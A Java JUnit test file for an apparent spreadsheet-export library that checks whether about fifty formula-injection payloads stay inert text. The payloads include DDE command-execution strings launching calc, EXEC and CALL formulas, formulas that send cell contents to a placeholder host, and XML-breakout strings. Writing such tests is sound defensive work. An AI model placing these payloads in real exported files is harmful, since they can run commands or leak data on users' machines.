package org.plr.workbook;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** What would be a formula if somebody typed it: in every column, in every place of text that a workbook has. */
class FormulasTest {
    static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://e/?x=\"&A1,\"Open\")",
            "=cmd|' /C calc'!A0",
            "=cmd|'/c calc.exe'!A1",
            "=DDE(\"cmd\",\"/C calc\",\"x\")",
            "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
            "=WEBSERVICE(\"http://e/\")",
            "=IMPORTXML(CONCAT(\"http://e/\",A1),\"//a\")",
            "=IMPORTDATA(\"http://e\")",
            "=IMAGE(\"http://e/x.png\")",
            "=ENCODEURL(A1)",
            "=RTD(\"e\",\"\",\"x\")",
            "=CALL(\"urlmon\",\"x\")",
            "=REGISTER.ID(\"kernel32\",\"x\")",
            "=EXEC(\"calc\")",
            "=INDIRECT(\"A1\")",
            "=SUM(A1:A9)",
            "={1,2}",
            "==1",
            "=",
            "= 1",
            "+1+1",
            "+cmd|'/c calc'!A0",
            "+",
            "-1-1",
            "-2+3+cmd|'/c calc'!A0",
            "-",
            "@SUM(1)",
            "@A1",
            "@",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "'=1+1",
            "''",
            "\"=1+1\"",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20A1",
            "%0A=1+1",
            ";=1+1",
            "|calc",
            "\u00A0=1",
            "</t></is></c><c><f>1+1</f></c>",
            "]]><f>1</f>",
            "&lt;f&gt;1&lt;/f&gt;",
            "_x003D_1+1",
            "_x0000_=1");
    private static final int COLUMNS = 6;

    private static byte[] everywhere() {
        List<Column> columns = IntStream.rangeClosed(1, COLUMNS)
                .mapToObj(i -> Column.text("=" + i, 20)
                        .meaning("=1+1")
                        .oneOf(PAYLOADS.get(i), "@x")
                        .marking(PAYLOADS.get(i), Mark.ALERT))
                .map(column -> column.header().length() % 2 == 0 ? column.editable() : column)
                .toList();
        List<List<Content.Value>> rows = new ArrayList<>();
        PAYLOADS.forEach(each -> rows.add(Collections.nCopies(COLUMNS, Content.text(each))));
        return Written.of(new SheetPlan("=1+1", columns), rows);
    }

    @Test
    void there_are_forty_of_them_and_more() {
        assertTrue(PAYLOADS.stream().distinct().count() >= 40);
    }

    @Test
    void none_becomes_a_formula_in_any_part() throws IOException {
        for (Archive.Part part : Archive.of(everywhere(), Limits.USUAL).parts()) {
            String xml = text(part);
            assertFalse(xml.contains("<f>") || xml.contains("<f "), part.name());
            assertFalse(xml.contains("externalLink") || xml.contains("ddeLink"), part.name());
        }
    }

    @Test
    void each_is_read_as_it_was_written() {
        List<List<Content>> read = Written.read(everywhere(), "=1+1", COLUMNS);
        assertEquals(PAYLOADS.size(), read.size());
        for (int i = 0; i < read.size(); i++) {
            assertEquals(Collections.nCopies(COLUMNS, Content.text(PAYLOADS.get(i))), read.get(i));
        }
    }

    @Test
    void each_is_text_in_other_eyes_and_stays_text_when_edited() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(everywhere()))) {
            XSSFSheet sheet = workbook.getSheetAt(0);
            for (int i = 0; i < PAYLOADS.size(); i++) {
                for (int column = 0; column < COLUMNS; column++) {
                    XSSFCell cell = sheet.getRow(i + 1).getCell(column);
                    assertEquals(CellType.STRING, cell.getCellType());
                    assertEquals(PAYLOADS.get(i), cell.getStringCellValue());
                    assertTrue(cell.getCellStyle().getQuotePrefixed());
                }
            }
        }
    }

    /** What the ICO fined a police service for: nothing is in the file that does not show. */
    @Test
    void nothing_is_hidden_in_any_part() throws IOException {
        for (Archive.Part part : Archive.of(everywhere(), Limits.USUAL).parts()) {
            String xml = text(part);
            Stream.of(
                            "hidden",
                            "pivotCache",
                            "<comment",
                            "<author",
                            "creator",
                            "lastModifiedBy",
                            "externalReference",
                            "customXml",
                            "Target=\"http")
                    .forEach(trace -> assertFalse(xml.contains(trace), () -> part.name() + " has " + trace));
            assertEquals(
                    xml.split("<definedName ", -1).length,
                    xml.split("<definedName name=\"_xlnm.Print_Titles\"", -1).length,
                    part.name());
        }
    }

    private static String text(Archive.Part part) throws IOException {
        return new String(Archive.of(everywhere(), Limits.USUAL).open(part).readAllBytes(), StandardCharsets.UTF_8);
    }
}
